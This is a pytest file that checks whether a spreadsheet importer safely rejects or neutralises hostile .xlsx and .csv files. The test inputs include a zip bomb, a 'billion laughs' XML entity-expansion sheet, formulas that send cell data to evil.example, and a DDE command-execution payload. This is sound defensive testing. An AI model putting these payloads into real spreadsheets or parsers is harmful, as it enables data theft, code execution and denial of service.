"""Hostile spreadsheets for `exemplars import`: every one ends in the exact Vietnamese line
naming the file and the row (or is imported as plain data), never a traceback, a
MemoryError or a hang, and nothing is written.

The .xlsx files are written here part by part (`raw_xlsx`), so a test can declare any
dimension, put a cell at XFD1048576, leave a formula without its saved value, or pack a
zip bomb: the things a real spreadsheet program would not write but a file can hold.
"""

from __future__ import annotations

import subprocess
import zipfile
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from conftest import TODAY
from test_import import OPTIONS, run_import, snapshot

from exemplars.content.load import load_content
from exemplars.editor import importer
from exemplars.editor.importer import ImportError_, Options

HEADER = ["STT", "Họ và tên", "Đơn vị", "Thành tích"]


def row(number: int, name: str, unit: str = "tra-co", reason: str = "Trực chốt.") -> list:
    return [number, name, unit, reason]


def _cell(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, int):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, tuple):  # ("f", formula, cached value or None)
        _, formula, cached = value
        saved = "" if cached is None else f"<v>{escape(cached)}</v>"
        return f'<c r="{ref}" t="str"><f>{escape(formula)}</f>{saved}</c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def _column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def sheet_xml(rows: dict[int, list] | list[list], dimension: str | None = None) -> str:
    numbered = rows if isinstance(rows, dict) else dict(enumerate(rows, start=1))
    body = []
    for number, cells in numbered.items():
        inner = "".join(_cell(f"{_column(i)}{number}", v) for i, v in enumerate(cells))
        body.append(f'<row r="{number}">{inner}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


def raw_xlsx(path: Path, sheet: str, extra: dict[str, bytes] | None = None) -> Path:
    """The four parts an .xlsx needs, and `sheet` as its only worksheet."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="application'
            '/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
            '" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"><sheets><sheet name="DS" sheetId="1" r:id="rId1"'
            "/></sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
            'http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


@pytest.fixture
def content(tree) -> Path:
    return tree.root


def attempt(content: Path, sheet: Path) -> list[str]:
    """Import in-process; the messages it refused with ([] when it imported)."""
    values = dict(zip(OPTIONS[::2], OPTIONS[1::2], strict=True))
    options = Options(
        sheet=sheet,
        number=values["--number"],
        date=values["--date"],
        issuer=values["--issuer"],
        award=values["--award"],
        content=content,
    )
    before = snapshot(content)
    try:
        importer.run(options, date.fromisoformat(TODAY))
    except ImportError_ as error:
        assert snapshot(content) == before  # nothing written
        assert not list(content.rglob(".*"))  # no temporary file in content/
        return error.messages
    return []


def refused(content: Path, sheet: Path) -> str:
    messages = attempt(content, sheet)
    assert len(messages) == 1, messages
    return messages[0]


# -- size: what the file holds, never what it declares --------------------------------------


def test_declared_dimension_is_not_trusted(content, tmp_path):
    """A tiny file declaring A1:XFD1048576, a cell at XFD1 and a row at 1048576: read in a
    blink; the row number reported is the real one."""
    sheet = raw_xlsx(
        tmp_path / "khai-gian.xlsx",
        sheet_xml(
            {1: HEADER, 2: row(1, "Lê Văn Một"), 1048576: row(2, "Lê Văn Hai", "khong-co")},
            dimension="A1:XFD1048576",
        ).replace("</row>", '<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>', 1),
    )
    assert sheet.stat().st_size < 2048
    message = refused(content, sheet)
    assert message.startswith(f"{sheet}, dòng 1048576: Lê Văn Hai: không nhận ra đơn vị")


def test_more_than_20000_recipients(content, tmp_path):
    rows = [HEADER] + [row(n, f"Người thứ {n}") for n in range(1, 20_002)]
    sheet = raw_xlsx(tmp_path / "dai.xlsx", sheet_xml(rows))
    assert refused(content, sheet) == (
        f"{sheet}, dòng 20002: danh sách có hơn 20.000 người nhận; mỗi lần nhập tối đa "
        f"20.000 dòng, hãy tách thành nhiều tệp"
    )


def test_far_more_rows_stop_reading_at_the_limit(content, tmp_path):
    csv_path = tmp_path / "rat-dai.csv"
    lines = ["Họ tên,Đơn vị"] + [f"Người {n},tra-co" for n in range(60_000)]
    csv_path.write_text("\n".join(lines), encoding="utf-8")
    assert refused(content, csv_path) == (
        f"{csv_path}, dòng 20031: danh sách có hơn 20.000 dòng; mỗi lần nhập tối đa "
        f"20.000 dòng, hãy tách thành nhiều tệp"
    )


def test_zip_bomb(content, tmp_path):
    filler = b"<x/>" * (13 * 1024 * 1024)  # 52 MB unpacked, ~50 KB packed
    sheet = raw_xlsx(
        tmp_path / "bom.xlsx", sheet_xml([HEADER, row(1, "A")]), {"xl/filler.xml": filler}
    )
    assert sheet.stat().st_size < 1024 * 1024
    assert refused(content, sheet) == (
        f"{sheet}: tệp Excel khi giải nén lớn hơn 50 MB; hãy tách danh sách thành nhiều tệp"
    )


def test_whole_sheet_text_budget(content, tmp_path, monkeypatch):
    monkeypatch.setattr(importer, "MAX_TEXT", 2_000)
    rows = [HEADER] + [row(n, f"Người thứ {n}", reason="x" * 100) for n in range(1, 40)]
    sheet = raw_xlsx(tmp_path / "nhieu-chu.xlsx", sheet_xml(rows))
    assert refused(content, sheet).startswith(
        f"{sheet}, dòng 18: tệp chứa quá nhiều chữ (hơn 2.000 ký tự); hãy tách thành nhiều tệp"
    )


def test_huge_cell_in_xlsx(content, tmp_path):
    sheet = raw_xlsx(
        tmp_path / "o-dai.xlsx", sheet_xml([HEADER, row(1, "A"), row(2, "B", reason="ầ" * 6000)])
    )
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3, cột 4: ô dài 6.000 ký tự, quá giới hạn 5.000 ký tự; hãy rút gọn "
        f"nội dung ô này"
    )


def test_huge_cell_in_csv(content, tmp_path):
    sheet = tmp_path / "o-dai.csv"
    sheet.write_text(f"Họ tên,Đơn vị\nAn,tra-co\n{'x' * 200_000},tra-co\n", encoding="utf-8")
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3: một ô dài hơn 131.072 ký tự (hoặc thiếu dấu ngoặc kép đóng ô); "
        f"mỗi ô tối đa 5.000 ký tự"
    )


def test_unclosed_quote_in_csv(content, tmp_path):
    sheet = tmp_path / "ngoac.csv"
    sheet.write_text('Họ tên,Đơn vị\n"An,tra-co\n' + "Bình,tra-co\n" * 15_000, encoding="utf-8")
    assert refused(content, sheet).startswith(f"{sheet}, dòng ")
    assert "thiếu dấu ngoặc kép" in refused(content, sheet)


def test_medium_cell_in_csv(content, tmp_path):
    sheet = tmp_path / "o-vua.csv"
    sheet.write_text(f"Họ tên,Đơn vị\nAn,tra-co\nBình,{'y' * 5001}\n", encoding="utf-8")
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3, cột 2: ô dài 5.001 ký tự, quá giới hạn 5.000 ký tự; hãy rút gọn "
        f"nội dung ô này"
    )


def test_csv_over_the_byte_limit(content, tmp_path, monkeypatch):
    monkeypatch.setattr(importer, "MAX_BYTES", 1024 * 1024)
    sheet = tmp_path / "to.csv"
    sheet.write_bytes(b"Ho ten,Don vi\n" + b"An,tra-co\n" * 300_000)
    assert refused(content, sheet) == (
        f"{sheet}: tệp CSV lớn 2 MB, quá giới hạn 1 MB; hãy tách danh sách thành nhiều tệp"
    )


def test_many_columns_are_read_only_as_far_as_needed(content, tmp_path):
    wide = [*row(1, "Lê Văn Rộng"), *(["x"] * 3000)]
    sheet = raw_xlsx(tmp_path / "rong.xlsx", sheet_xml([HEADER, wide]))
    assert attempt(content, sheet) == []
    assert (content / "exemplars" / "le-van-rong.md").exists()


# -- formulas: data, never evaluated ----------------------------------------------------


def test_hyperlink_text_cell_is_data(content, tmp_path):
    name = '=HYPERLINK("http://evil.example/?q="&A1,"Nguyễn Văn Bẫy")'
    sheet = raw_xlsx(tmp_path / "chu.xlsx", sheet_xml([HEADER, row(1, name)]))
    assert attempt(content, sheet) == []
    (record,) = load_content(content).records["exemplars"]
    assert record.name == name  # the text, as typed: nothing fetched, nothing computed


def test_formula_cell_gives_its_saved_value_only(content, tmp_path):
    cell = ("f", 'WEBSERVICE("http://evil.example/"&B3)', "Trần Văn Lưu")
    sheet = raw_xlsx(tmp_path / "cong-thuc.xlsx", sheet_xml([HEADER, row(1, cell)]))
    assert attempt(content, sheet) == []
    text = (content / "exemplars" / "tran-van-luu.md").read_text(encoding="utf-8")
    assert "name: Trần Văn Lưu" in text and "WEBSERVICE" not in text


def test_formula_cell_without_saved_value_is_a_row_without_a_name(content, tmp_path):
    cell = ("f", 'CONCATENATE("Lê","Văn")', None)
    sheet = raw_xlsx(tmp_path / "chua-tinh.xlsx", sheet_xml([HEADER, row(1, cell)]))
    assert refused(content, sheet) == f"{sheet}, dòng 2: (trống): thiếu họ tên / tên tập thể"


@pytest.mark.parametrize("name", ["=1+1", "+SUM(A1:A3)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"])
def test_formula_like_text_in_csv_is_data(content, tmp_path, name):
    sheet = tmp_path / "ds.csv"
    sheet.write_text(f'Họ tên,Đơn vị\n"{name}",tra-co\n', encoding="utf-8")
    assert attempt(content, sheet) == []
    (record,) = load_content(content).records["exemplars"]
    assert record.name == name


# -- encodings and bytes -------------------------------------------------------------------


def test_windows_code_page_csv_names_the_row(content, tmp_path):
    sheet = tmp_path / "cu.csv"
    sheet.write_bytes("Họ tên,Đơn vị\nAn,tra-co\n".encode() + b"L\xea V\xe3n Hai,tra-co\n")
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3: tệp CSV không phải mã UTF-8; trong Excel hãy chọn Lưu thành "
        f"“CSV UTF-8 (Comma delimited)”"
    )


def test_truncated_utf8_at_the_end(content, tmp_path):
    sheet = tmp_path / "cut.csv"
    sheet.write_bytes("Họ tên,Đơn vị\nLê Văn Hải,tra-co\nĐ".encode()[:-1])
    assert refused(content, sheet).startswith(f"{sheet}, dòng 3: tệp CSV không phải mã UTF-8")


def test_utf16_csv_from_excel_unicode_text(content, tmp_path):
    sheet = tmp_path / "unicode.csv"
    sheet.write_bytes("Họ tên\tĐơn vị\nLê Văn Mười Sáu\ttra-co\n".encode("utf-16"))
    assert attempt(content, sheet) == []
    assert (content / "exemplars" / "le-van-muoi-sau.md").exists()


def test_nul_bytes_in_csv(content, tmp_path):
    sheet = tmp_path / "nul.csv"
    sheet.write_bytes(b"Ho ten,Don vi\nAn,tra-co\nB\x00nh,tra-co\n")
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3: tệp có ký tự rỗng (NUL), không phải tệp CSV văn bản; hãy lưu lại "
        f"từ Excel dạng “CSV UTF-8”"
    )


@pytest.mark.parametrize("char", ["\x07", "\x1b", "\x9b", "\x7f"])
def test_control_characters_in_a_cell(content, tmp_path, char):
    sheet = tmp_path / "dieu-khien.csv"
    sheet.write_text(f"Họ tên,Đơn vị\nAn,tra-co\nLê{char}Văn,tra-co\n", encoding="utf-8")
    assert refused(content, sheet) == (
        f"{sheet}, dòng 3, cột 1: ô có ký tự điều khiển không in được "
        f"(U+{ord(char):04X}); hãy xóa ký tự đó trong bảng tính rồi lưu lại"
    )


def test_not_a_zip(content, tmp_path):
    sheet = tmp_path / "gia.xlsx"
    sheet.write_text("Họ tên,Đơn vị\n", encoding="utf-8")
    assert refused(content, sheet) == (
        f"{sheet}: không phải tệp Excel .xlsx hợp lệ (tệp hỏng hoặc đổi đuôi); hãy mở bằng "
        f"Excel rồi lưu lại dạng .xlsx"
    )


def test_zip_without_a_workbook(content, tmp_path):
    sheet = tmp_path / "rong.xlsx"
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("hello.txt", "x")
    assert refused(content, sheet).startswith(f"{sheet}: không mở được tệp Excel (")


def test_broken_sheet_xml(content, tmp_path):
    sheet = raw_xlsx(tmp_path / "hong.xlsx", sheet_xml([HEADER, row(1, "A")])[:-40])
    assert refused(content, sheet) == (
        f"{sheet}: không mở được tệp Excel (ParseError); hãy mở bằng Excel rồi lưu lại dạng .xlsx"
    )


def test_entity_expansion_in_sheet_xml(content, tmp_path):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        + "".join(
            f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + "]>"
    )
    xml = sheet_xml([HEADER, row(1, "&i;")]).replace(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', laughs
    )
    xml = xml.replace("&amp;i;", "&i;")
    sheet = raw_xlsx(tmp_path / "cuoi.xlsx", xml)
    message = refused(content, sheet)
    assert message.startswith(f"{sheet}")
    assert "Traceback" not in message


def test_old_xls_and_other_formats(content, tmp_path):
    for name in ("cu.xls", "ds.ods", "ds.json"):
        sheet = tmp_path / name
        sheet.write_bytes(b"\xd0\xcf\x11\xe0")
        assert refused(content, sheet) == (
            f"{sheet}: chỉ đọc được tệp .xlsx hoặc .csv; nếu là tệp .xls cũ, hãy mở bằng "
            f"Excel rồi lưu lại dạng .xlsx"
        )


def test_missing_file(content, tmp_path):
    assert refused(content, tmp_path / "khong-co.csv") == (
        f"{tmp_path / 'khong-co.csv'}: không tìm thấy tệp"
    )


def test_header_below_row_30(content, tmp_path):
    rows = {40: HEADER, 41: row(1, "A")}
    sheet = raw_xlsx(tmp_path / "thap.xlsx", sheet_xml(rows))
    assert refused(content, sheet).startswith(
        f"{sheet}: không tìm thấy dòng tiêu đề cột: cần ít nhất cột “Họ và tên”"
    )


def test_only_a_header(content, tmp_path):
    sheet = raw_xlsx(tmp_path / "tieu-de.xlsx", sheet_xml([HEADER]))
    assert refused(content, sheet) == (f"{sheet}: không có dòng người nhận nào dưới dòng tiêu đề")


def test_cli_prints_one_line_and_no_traceback(content, tmp_path):
    """The same limits through the command, as an editor meets them."""
    sheet = raw_xlsx(
        tmp_path / "khai-gian.xlsx",
        sheet_xml({1: HEADER, 2: row(1, "B", reason="ầ" * 6000)}, dimension="A1:XFD1048576"),
    )
    result: subprocess.CompletedProcess = run_import(content, sheet)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    # (progress lines, on stderr, come first)
    assert result.stderr.splitlines()[-2:] == [
        f"{sheet}, dòng 2, cột 4: ô dài 6.000 ký tự, quá giới hạn 5.000 ký tự; hãy rút gọn "
        f"nội dung ô này",
        "Không ghi tệp nào.",
    ]


def test_a_decision_too_long_for_one_file(content, tmp_path):
    """Under the row limit, but the decision would list more recipients than its front
    matter may hold (64 KB, check 17): refused before any exemplar is rendered."""
    sheet = tmp_path / "nhieu.csv"
    lines = ["Họ tên,Đơn vị"] + [f"Người Thứ {n},tra-co" for n in range(3000)]
    sheet.write_text("\n".join(lines) + "\n", encoding="utf-8")
    message = refused(content, sheet)
    assert message.startswith(f"{sheet}: 3000 người nhận làm tệp quyết định dài ")
    assert message.endswith(
        "KB, quá giới hạn 64 KB của phần đầu tệp (khoảng "
        + message.split("(khoảng ")[1].split(" người")[0]
        + " người nhận); hãy tách danh sách (ví dụ theo phụ lục hoặc đơn vị) và nhập từng "
        "phần với --id riêng"
    )
    fits = int(message.split("(khoảng ")[1].split(" người")[0].replace(".", ""))
    assert 1500 < fits < 3000
